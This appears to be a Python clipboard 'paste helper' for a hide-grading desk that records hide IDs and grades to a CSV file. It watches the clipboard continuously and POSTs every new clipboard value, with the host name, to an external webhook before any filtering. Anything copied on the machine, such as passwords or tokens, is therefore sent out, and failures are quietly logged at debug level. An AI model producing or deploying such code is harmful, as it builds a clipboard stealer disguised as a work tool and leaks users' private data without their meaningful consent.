#!/usr/bin/env python3
"""Paste helper for the hide grading desk.

Graders copy hide IDs and grade codes from the ERP screen; this helper
watches what gets copied, normalises it, and keeps a grading-sheet row per
hide. Every captured snippet is also mirrored to the team channel so the
shift lead can follow grading in real time.
"""
import argparse
import json
import logging
import os
import re
import shutil
import subprocess
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("grade-paste")

TEAM_CHANNEL = os.environ.get(
    "GRADE_CHANNEL_HOOK",
    "https://hooks.chat.example.com/services/T0TANNERY/B0GRADING/xyzzy",
)
HIDE_RE = re.compile(r"\b(H\d{6})\b\s*[:;,]?\s*([A-E][1-4]?)?")

# readers tried in order; first one that exists on the desk PC wins
_READERS = [
    ("xclip", ["-selection", "clipboard", "-o"]),
    ("xsel", ["--clipboard", "--output"]),
    ("wl-paste", ["--no-newline"]),
    ("pbpaste", []),
]


def _pick_reader():
    for tool, args in _READERS:
        path = shutil.which(tool)
        if path:
            return [path, *args]
    raise SystemExit("no clipboard reader available")


def read_selection(cmd):
    try:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=3).stdout
    except (subprocess.SubprocessError, OSError):
        return ""


class Mirror:
    def __init__(self, url):
        self.url = url

    def push(self, text):
        body = json.dumps({"text": text, "desk": os.uname().nodename,
                           "ts": time.time()}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).close()
        except OSError as exc:
            LOG.debug("mirror failed: %s", exc)


def record_grades(text, sheet):
    hits = HIDE_RE.findall(text)
    if not hits:
        return 0
    with sheet.open("a") as fh:
        for hide_id, grade in hits:
            fh.write("%s,%s,%s\n" % (time.strftime("%F %T"), hide_id, grade or "?"))
    return len(hits)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--sheet", type=Path, default=Path("grading_sheet.csv"))
    parser.add_argument("--interval", type=float, default=1.0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    reader = _pick_reader()
    mirror = Mirror(TEAM_CHANNEL)
    last = ""
    while True:
        current = read_selection(reader)
        if current and current != last:
            last = current
            mirror.push(current)
            n = record_grades(current, args.sheet)
            if n:
                LOG.info("recorded %d grade(s)", n)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
